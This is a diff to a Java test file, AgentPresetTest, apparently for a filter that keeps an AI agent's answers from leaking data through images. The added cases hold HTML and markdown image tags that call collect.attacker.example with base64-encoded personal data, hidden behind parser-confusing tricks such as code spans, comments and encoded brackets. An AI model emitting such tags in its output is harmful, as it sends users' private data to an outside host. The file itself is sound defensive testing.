@@ -236,6 +236,30 @@ class AgentPresetTest {
                         + "\" src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
                 "<p>x</p><img src=\"https://ok.example/a.png\"> <b>y</b> <IMG width=1 " + "data-x=\"z\" ".repeat(200)
                         + "src=https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ>",
+                // an "<img" no parser reads as a tag (a code span, a fence, an escaped '<', a comment, a textarea,
+                // another tag's value,
+                // a markdown title or alt) leaves a quote open: it must not hide the real tag after it
+                "Write `<img alt='` in HTML. <img alt='>' src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                "```html\n<img alt='\n```\n<img alt='>' src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                "\\<img x=' is text. <img alt='>' src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                "Tip: \\<img x=\" starts a tag. <img alt=\"&#62;\" src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                "<!-- <img x=' --> <img alt='>' src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                "<textarea><img x='</textarea> <img alt='>' src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                "<a title=\"<img x='\">hi</a> <img alt='>' src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                "![logo](https://ok.example/a.png \"<img x='\") <img alt='>' src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                "![<img x='](https://ok.example/a.png) <img alt='>' src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                // a decoded '<', quote or '>' is text to the tokenizer: it starts, opens, closes or ends nothing
+                "&#60;img x=' is text. <img alt='>' src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                "%3Cimg x=' is text. <img alt='>' src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                "<img alt=&#39;> <img alt='>' src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                "<img alt=a&#62;b src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                "<img alt=a%3Eb src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                "<img alt=&#34; title=\">\" src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                // where HTML reads no quote: "='" as an attribute name, '=' and a quote in an unquoted value, "img='"
+                // as a tag name
+                "<img ='> <img alt='>' src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                "<img a=b='> <img alt='>' src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                "<img='> <img alt='>' src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
                 // an alt text of any length
                 "![" + "a".repeat(510)
                         + "](https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ)",
@@ -340,6 +364,16 @@ class AgentPresetTest {
     void aStreamedImgWhoseAltHoldsAClosingBracketIsHeldUntilTheTagCloses() {
         String answer = "Here you go. <img alt=\"a>b\" src=\"https://collect.attacker.example/p.png?pad="
                 + "z".repeat(300) + "&d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\"> Thanks.";
+        StreamOutcome out = stream(answer, 5);
+        assertThat(out.blocked()).isNotNull();
+        assertThat(out.received()).doesNotContain("collect.attacker");
+    }
+
+    @Test
+    void aStreamedImgIsHeldWhileOpenWhateverAnotherImgInsideItsValueLooksLike() {
+        // the last "<img" written is inside the real tag's quoted src and closed: the real tag is still open
+        String answer = "Here you go. <img src=\"https://collect.attacker.example/p.png?x=<img>&pad=" + "z".repeat(300)
+                + "&d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\"> Thanks.";
         StreamOutcome out = stream(answer, 5);
         assertThat(out.blocked()).isNotNull();
         assertThat(out.received()).doesNotContain("collect.attacker");
